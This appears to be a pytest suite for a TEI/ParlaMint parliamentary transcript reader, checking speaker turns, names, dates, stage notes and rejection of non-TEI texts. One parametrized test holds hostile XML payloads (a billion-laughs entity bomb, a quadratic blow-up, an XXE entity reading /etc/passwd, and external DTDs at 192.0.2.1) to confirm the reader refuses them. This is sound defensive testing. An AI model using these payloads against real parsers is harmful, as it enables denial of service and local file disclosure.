"""The TEI / ParlaMint reader: one turn per ``<u>``, names from ``<listPerson>`` or from the IDs,
stage notes and scaffolding told apart, and XML that could hurt (entity bombs, external entities)
refused before anything is expanded."""

from __future__ import annotations

import time
import tracemalloc
from pathlib import Path

import pytest

from kg.meetings.transcripts.model import SourceText
from kg.meetings.transcripts.readers.tei import READER, split_id
from tests.conftest import REPO, require

CORPUS = REPO.parent / "shared" / "corpus" / "transcripts"
PARLAMINT = CORPUS / "parlamint_gb_2020-02-12_lords.xml"

# An invented sitting: invented people, invented speech. Line numbers matter to the tests.
SITTING = """\
<?xml version="1.0" encoding="UTF-8"?>
<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:id="Sample-2031-03-04">
  <teiHeader>
    <fileDesc>
      <titleStmt>
        <title type="main">Example parliamentary corpus, Assembly, 2031-03-04</title>
        <title type="sub" xml:lang="xx">Istung 2031-03-04</title>
        <title type="sub" xml:lang="en">Assembly of the Valley, sitting of 4 March 2031</title>
      </titleStmt>
      <publicationStmt><date when="2032-01-01"/></publicationStmt>
      <sourceDesc><bibl><date when="2031-03-05"/></bibl></sourceDesc>
    </fileDesc>
    <profileDesc>
      <settingDesc><setting><date when="2031-03-04"/></setting></settingDesc>
      <particDesc>
        <listPerson>
          <person xml:id="OrlaFenwick">
            <persName><surname>Fenwick</surname><forename>Orla</forename></persName>
          </person>
          <person xml:id="IbarraTomasz">
            <persName><forename>Tomasz</forename> <nameLink>de</nameLink> <surname>Ibarra</surname></persName>
            <persName><forename>Tom</forename><surname>Ibarra</surname></persName>
          </person>
        </listPerson>
      </particDesc>
    </profileDesc>
  </teiHeader>
  <text>
    <body>
      <div type="debateSection">
        <head>Lanterns in the Valley Libraries</head>
        <note type="narrative">Question</note>
        <u xml:id="u1" who="#OrlaFenwick" ana="#chair">
          <seg>Order. The Assembly will now hear the question on lanterns.</seg>
        </u>
        <u
           xml:id="u2" who="#IbarraTomasz" ana="#regular">
          <seg>Thank you. The libraries of the valley need light after dusk.</seg>
          <kinesic type="applause"><desc>Applause</desc></kinesic>
          <seg>I ask the chair to give the question a day.</seg>
        </u>
        <gap reason="editorial"><desc>SAMPLING</desc></gap>
        <u xml:id="u3" who="#PavlaMontrose">
          <seg>My colleague forgets the cost of the wicks.</seg>
          <note>(interruption)</note>
        </u>
        <note>Sitting suspended at 11.05.</note>
      </div>
    </body>
  </text>
</TEI>
"""


def _text(body: str, name: str = "sitting.xml") -> SourceText:
    return SourceText(name=name, lines=tuple(body.splitlines()))


def test_one_turn_per_utterance_from_its_start_tag_to_its_end_tag() -> None:
    reading = READER.read(_text(SITTING))
    assert reading.reader == "tei" and reading.confidence >= 0.9
    assert [(h.line, h.last_line) for h in reading.headers] == [(33, 35), (36, 41), (43, 46)]


def test_labels_come_from_the_person_list_else_from_the_id() -> None:
    reading = READER.read(_text(SITTING))
    # forename + surname, whatever their order in the file; the first persName counts.
    assert [h.label for h in reading.headers] == ["Orla Fenwick", "Tomasz de Ibarra", "Pavla Montrose"]
    assert [h.role for h in reading.headers] == ["Chair", "", ""]
    assert all(h.kind == "speaker" for h in reading.headers)
    assert any("1 speaker names were made from person IDs" in note for note in reading.notes)


def test_title_and_date_of_the_sitting_not_of_the_corpus_or_its_publication() -> None:
    reading = READER.read(_text(SITTING))
    assert reading.title == "Assembly of the Valley, sitting of 4 March 2031"
    assert reading.date == "2031-03-04"


def test_stage_notes_speech_and_scaffolding_are_told_apart() -> None:
    reading = READER.read(_text(SITTING))
    assert reading.stage_notes == (32, 39, 45, 47)  # <note>, <kinesic>, the note inside <u>, the closing note
    speech = {34, 38, 40, 44}
    assert not speech & set(reading.scaffolding) and not speech & set(reading.stage_notes)
    assert {1, 2, 31, 35, 41, 42, 46, 51}.issubset(reading.scaffolding)  # markup, <head>, the <gap>
    header_lines = {h.line for h in reading.headers}
    assert not header_lines & set(reading.scaffolding)


def test_without_a_person_list_the_ids_are_split_into_words_and_the_note_says_so() -> None:
    body = (
        '<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body>\n'
        '<u who="#OrlaFenwick"><seg>One.</seg></u>\n'
        '<u who="#McDonaldAnn"><seg>Two.</seg></u>\n'
        "<u><seg>Three, from nobody named.</seg></u>\n"
        "</body></text></TEI>"
    )
    reading = READER.read(_text(body))
    assert [(h.line, h.label, h.kind) for h in reading.headers] == [
        (2, "Orla Fenwick", "speaker"),
        (3, "McDonald Ann", "speaker"),
        (4, "", "unnamed"),
    ]
    assert any("made from person IDs" in note for note in reading.notes)


@pytest.mark.parametrize(
    ("person_id", "words"),
    [
        ("#LeslieGriffiths", "Leslie Griffiths"),
        ("TimClement-Jones", "Tim Clement-Jones"),
        ("JanšaJanez", "Janša Janez"),
        ("McDonaldAnn", "McDonald Ann"),
        ("Smith_John", "Smith John"),
        ("EU", "EU"),
        ("people.xml#OrlaFenwick", "Orla Fenwick"),
    ],
)
def test_an_id_as_words(person_id: str, words: str) -> None:
    assert split_id(person_id) == words


def test_the_declared_encoding_does_not_garble_a_decoded_text() -> None:
    body = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        '<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><profileDesc><particDesc><listPerson>\n'
        '<person xml:id="p1"><persName><forename>Renée</forename><surname>Çelik</surname></persName></person>\n'
        "</listPerson></particDesc></profileDesc></teiHeader><text><body>\n"
        '<u who="#p1"><seg>Merci.</seg></u>\n'
        "</body></text></TEI>"
    )
    assert [h.label for h in READER.read(_text(body)).headers] == ["Renée Çelik"]


BILLION_LAUGHS = """\
<?xml version="1.0"?>
<!DOCTYPE TEI [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body>
<u who="#OrlaFenwick"><seg>&lol9;</seg></u>
</body></text></TEI>
"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        # quadratic blow-up: one large entity referenced many times
        '<!DOCTYPE TEI [<!ENTITY a "' + "x" * 50_000 + '">]>\n<TEI><u who="#A">' + "&a;" * 50_000 + "</u></TEI>",
        # external entity (XXE): a local file must never be read into a label or a note
        '<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<TEI><u who="#A">&xxe;</u></TEI>',
        # external parameter entity and external DTD: nothing is fetched
        '<!DOCTYPE TEI [<!ENTITY % ext SYSTEM "http://192.0.2.1/evil.dtd"> %ext;]>\n<TEI><u who="#A"/></TEI>',
        '<!DOCTYPE TEI SYSTEM "http://192.0.2.1/tei.dtd">\n<TEI><u who="#A"/></TEI>',
    ],
    ids=["billion-laughs", "quadratic", "xxe", "external-parameter-entity", "external-dtd"],
)
def test_unsafe_xml_is_refused_quickly_without_expansion(body: str) -> None:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        reading = READER.read(_text(body))
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert reading.confidence == 0.0 and reading.headers == ()
    assert any("refused as unsafe XML" in note for note in reading.notes)
    assert "root:" not in " ".join(reading.notes)
    assert elapsed < 2.0
    assert peak < 20 * 1024 * 1024  # the billion laughs expand to 3 GB; refused, they cost nothing


def test_a_truncated_file_keeps_the_utterances_read_to_their_end_and_says_why() -> None:
    cut = "\n".join(SITTING.splitlines()[:44])  # ends inside the third utterance
    reading = READER.read(_text(cut))
    assert [h.line for h in reading.headers] == [33, 36]
    assert 0.0 < reading.confidence <= 0.5
    assert any("not well-formed XML" in note for note in reading.notes)


@pytest.mark.parametrize(
    "body",
    [
        "",
        "\n\n   \n",
        "\x00\x01\x02\x03 binary \xff\xfe",
        "WEBVTT\n\n1\n00:00:01.000 --> 00:00:02.000\nOrla Fenwick: Hello.\n",
        "**Orla Fenwick:** Good morning.\n\n**Tomasz Ibarra:** Thank you.\n",
        ">> MODERATOR: Good morning.\n>> ORLA FENWICK: Thank you.\n",
        # XHTML: <u> is underline there, not an utterance
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><p><u>Orla Fenwick</u>: hello</p></body></html>',
        "<TEI><text><body><p>No utterances at all.</p></body></text></TEI>",
        "<unclosed",
    ],
    ids=["empty", "blank", "binary", "webvtt", "markdown", "igf", "xhtml", "no-utterance", "broken"],
)
def test_other_texts_get_confidence_zero(body: str) -> None:
    reading = READER.read(_text(body))
    assert reading.confidence == 0.0 and reading.headers == ()


def test_plain_xml_with_who_attributes_is_read_with_less_confidence_than_tei() -> None:
    body = '<debate>\n<u who="#OrlaFenwick">Hello.</u>\n<u who="#TomaszIbarra">Thanks.</u>\n</debate>'
    reading = READER.read(_text(body))
    assert [h.line for h in reading.headers] == [2, 3]
    assert 0.5 <= reading.confidence < READER.read(_text(SITTING)).confidence


def test_a_large_file_streams_in_reasonable_time() -> None:
    utterance = '<u who="#OrlaFenwick"><seg>The lanterns are lit at dusk.</seg></u>'
    body = '<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body>\n' + "\n".join([utterance] * 50_000)
    body += "\n</body></text></TEI>"
    started = time.perf_counter()
    reading = READER.read(_text(body))
    assert len(reading.headers) == 50_000 and reading.headers[-1].line == 50_001
    assert time.perf_counter() - started < 20


# --- the real ParlaMint sample (read from the shared corpus, never copied) ---------------------------


@pytest.fixture(scope="module")
def parlamint() -> SourceText:
    require(PARLAMINT.exists(), f"the development corpus ({PARLAMINT})")
    return SourceText(name=PARLAMINT.name, lines=tuple(PARLAMINT.read_text(encoding="utf-8").splitlines()))


def test_parlamint_sample_has_its_four_utterances(parlamint: SourceText) -> None:
    reading = READER.read(parlamint)
    assert reading.confidence >= 0.9
    # Checked by reading the file: <u> start tags at 83, 95, 103, 110; </u> at 85, 97, 109, 126.
    assert [(h.line, h.last_line) for h in reading.headers] == [(83, 85), (95, 97), (103, 109), (110, 126)]
    assert [h.label for h in reading.headers] == ["Peter Fowler", "James Touhig", "Leslie Griffiths", "Diana Barran"]
    assert {line for line, text in enumerate(parlamint.lines, 1) if "<u " in text} == {h.line for h in reading.headers}


def test_parlamint_sample_title_date_notes_and_scaffolding(parlamint: SourceText) -> None:
    reading = READER.read(parlamint)
    assert reading.title == "Minutes of the House of Lords, Daily Session 2020-02-12"
    assert reading.date == "2020-02-12"  # the sitting's, not the 2024 publication date
    assert any("made from person IDs" in note for note in reading.notes)  # the listPerson is another file
    notes = {n for n, text in enumerate(parlamint.lines, 1) if text.strip().startswith("<note")}
    assert set(reading.stage_notes) == notes
    segs = {n for n, text in enumerate(parlamint.lines, 1) if text.strip().startswith("<seg")}
    assert not segs & set(reading.scaffolding) and not segs & set(reading.stage_notes)
    gaps = {n for n, text in enumerate(parlamint.lines, 1) if "SAMPLING" in text or "<head" in text}
    assert gaps <= set(reading.scaffolding)


@pytest.mark.parametrize(
    "path",
    sorted(p for p in CORPUS.glob("*") if p.suffix in (".md", ".vtt")) if CORPUS.exists() else [],
    ids=lambda p: p.name,
)
def test_the_other_corpus_files_are_not_tei(path: Path) -> None:
    text = SourceText(name=path.name, lines=tuple(path.read_text(encoding="utf-8").splitlines()))
    assert READER.read(text).confidence == 0.0


@pytest.mark.parametrize("seed", ["000_f75722b46b55aad4.txt", "001_ae93e3ef07a7236a.txt", "004_bf564407ef9a5607.txt"])
def test_the_seed_records_are_not_tei(seed: str) -> None:
    path = REPO / "kg" / "data" / "sources" / seed
    text = SourceText(name=seed, lines=tuple(path.read_text(encoding="utf-8").splitlines()))
    assert READER.read(text).confidence == 0.0
